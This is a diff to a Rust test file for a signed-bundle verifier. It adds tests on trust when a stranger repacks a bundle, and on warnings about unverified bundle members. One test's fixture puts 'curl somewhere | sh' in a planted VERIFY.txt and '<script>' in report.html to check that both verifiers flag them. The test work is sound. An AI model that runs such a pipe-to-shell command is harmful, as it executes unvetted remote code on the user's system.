@@ -3,14 +3,15 @@
 use std::process::{Command, Output};
 
 use authros_crypto::record::RecordSecret;
-use authros_crypto::{compression, prove, signer_id};
+use authros_crypto::{compression, prove, signature_der, signer_id};
 use authros_model::Token;
 use authros_model::head::Compression;
 
 use super::hostile::unanchored;
-use super::world::{BLOCK, TIME, World, bound, genesis, ours, pair, sealed, sealed_as};
+use super::world::{BLOCK, GATEWAY, TIME, World, bound, genesis, ours, pair, sealed, sealed_as};
 use crate::archive::{self, Members};
-use crate::{Bundle, BundledRecord, Outcome, Packing, Slot, Stretch, Trust, disclose, pack, verify};
+use crate::manifest::{MANIFEST, Manifest, signed_bytes};
+use crate::{Bundle, BundledRecord, Exporter, Outcome, Packing, Person, Slot, Stretch, Trust, disclose, pack, verify};
 
 fn python(arguments: &[&str]) -> Option<Output> {
     match Command::new("python3").arg("-B").args(arguments).output() {
@@ -24,7 +25,7 @@ fn python(arguments: &[&str]) -> Option<Output> {
 }
 
 /// A script that has the second verifier as `verify`, and its input, in a file, by name.
-fn script(text: &str, given: &str) -> Option<Output> {
+pub fn script(text: &str, given: &str) -> Option<Output> {
     let tools = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tools");
     let whole =
         format!("import sys\nsys.path.insert(0, {tools:?})\nimport verify\ngiven = open(sys.argv[1]).read()\n{text}");
@@ -125,6 +126,69 @@ fn completeness(stretch: &Stretch) -> serde_json::Value {
         "owner": owner.to_string().to_lowercase(), "signer": signer, "recorder": recorder, "topic_id": topic_id, "standing": standing,
         "first": first, "last": last, "missing": missing, "complete_to": number,
     })
+}
+
+/// Who puts a bundle together is its records' owner, or pinned, or it does not hold; what nobody read is told.
+#[test]
+fn both_say_the_same_of_a_bundle_that_a_stranger_packed_again() {
+    let (world, stranger) = (World::new(), pair());
+    let stranger_packs = |account| world.packing().sign(genesis(), account, &stranger, ours()).expect("packs");
+    // In the owner's name, and in her own; each record is whole.
+    agree(&stranger_packs(world.owner), &World::trust(), Outcome::Incomplete);
+    agree(&stranger_packs(GATEWAY), &World::trust(), Outcome::Incomplete);
+    // A record of her own beside it ties her key to her account, and to nobody else's record.
+    let mut both = world.packing();
+    both.key(&stranger.public).expect("a point");
+    let own = sealed(GATEWAY, &stranger, &world.topic_key, 9, b"her own");
+    both.record(own.digest, unanchored(own)).expect("added");
+    agree(
+        &both.sign(genesis(), world.owner, &world.keys, ours()).expect("packs"),
+        &World::trust(),
+        Outcome::Incomplete,
+    );
+    // Whom the reader pinned may pack records of others.
+    let mut pinned = World::trust();
+    let key = Some(signer_id(&stranger.public));
+    pinned.persons.push(Person { account: GATEWAY, name: "The gateway".into(), key });
+    agree(&stranger_packs(GATEWAY), &pinned, Outcome::Holds);
+    agree(&stranger_packs(world.owner), &pinned, Outcome::Incomplete);
+}
+
+#[test]
+fn both_tell_of_a_page_and_of_instructions_that_nobody_checked() {
+    let world = World::new();
+    let mut members = world.members();
+    members.insert("report.html".into(), b"<script>".to_vec());
+    members.insert("VERIFY.txt".into(), b"curl somewhere | sh".to_vec());
+    let exporter = Exporter { account: world.owner, key: signer_id(&world.keys.public) };
+    let text = serde_json::to_vec(&Manifest::of(&members, genesis(), exporter, ours())).expect("JSON");
+    let signature = ours().sign(&world.keys.secret, &signed_bytes(&text)).expect("signs");
+    members.insert("manifest.der".into(), signature_der(&signature));
+    members.insert(MANIFEST.into(), text);
+    agree(&members, &World::trust(), Outcome::Holds);
+    let file = pack(&members).expect("packs");
+    let report = verify(&Bundle::parse(&file, ours()).expect("reads"), Some(&World::trust()), ours());
+    let told = report.warnings.join("\n");
+    assert!(told.contains("report.html was not checked") && told.contains("VERIFY.txt is not the text"), "{told}");
+    let plain = world.report().warnings.join("\n");
+    assert!(!plain.contains("VERIFY.txt") && !plain.contains("report.html"), "{plain}");
+    let text = r"
+import contextlib, io
+out = io.StringIO()
+with contextlib.redirect_stdout(out):
+    verify.main([given])
+print(out.getvalue())
+";
+    let place = tempfile::NamedTempFile::new().expect("a file");
+    for (members, told) in [(&members, true), (&world.members(), false)] {
+        std::fs::write(place.path(), pack(members).expect("packs")).expect("written");
+        let Some(output) = script(text, place.path().to_str().expect("UTF-8")) else { return };
+        expect_success(&output);
+        let notes = serde_json::from_slice::<serde_json::Value>(&output.stdout).expect("JSON")["notes"].to_string();
+        for words in ["report.html was not checked", "VERIFY.txt is not the text"] {
+            assert_eq!(notes.contains(words), told, "{notes}");
+        }
+    }
 }
 
 fn signed(packing: Packing, world: &World) -> Members {
